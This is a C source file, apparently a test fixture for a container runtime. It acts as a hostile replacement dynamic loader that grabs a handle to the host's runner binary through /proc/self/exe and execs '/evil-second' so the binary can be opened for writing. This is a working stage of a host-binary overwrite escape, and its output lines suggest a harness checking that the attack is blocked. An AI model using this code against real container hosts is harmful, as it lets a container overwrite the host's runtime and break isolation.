/* A program interpreter that a hostile tree puts in place of its dynamic loader. When a script's
 * "#!/proc/self/exe" makes the kernel load the host's runner, this runs instead of the C library:
 * it keeps a handle of the binary, becomes another program so that the binary is no longer executed
 * by us, and tries to open it for writing.
 *
 * No C library: what the kernel passes belongs to somebody else's program.
 */
typedef long word;

static word call(word n, word a, word b, word c)
{
	word r;

	__asm__ volatile("syscall"
			 : "=a"(r)
			 : "a"(n), "D"(a), "S"(b), "d"(c)
			 : "rcx", "r11", "memory");
	return r;
}

static void say(const char *text)
{
	word n = 0;

	while (text[n])
		n++;
	call(1, 1, (word)text, n);
}

__attribute__((noreturn, used)) void entered(word *stack);

void entered(word *stack)
{
	static const char *const arguments[] = { "/evil-second", "7", (char *)0 };
	word fd;

	(void)stack;
	say("loader reached\n");
	/* O_PATH needs no permission on the file */
	fd = call(2, (word) "/proc/self/exe", 010000000, 0);
	if (fd >= 0)
		call(33, fd, 7, 0);
	call(59, (word) "/evil-second", (word)arguments, 0);
	say("ok no-second\n");
	for (;;)
		call(60, 0, 0, 0);
}

__asm__(".globl _start\n_start: mov %rsp, %rdi\n and $-16, %rsp\n call entered\n");
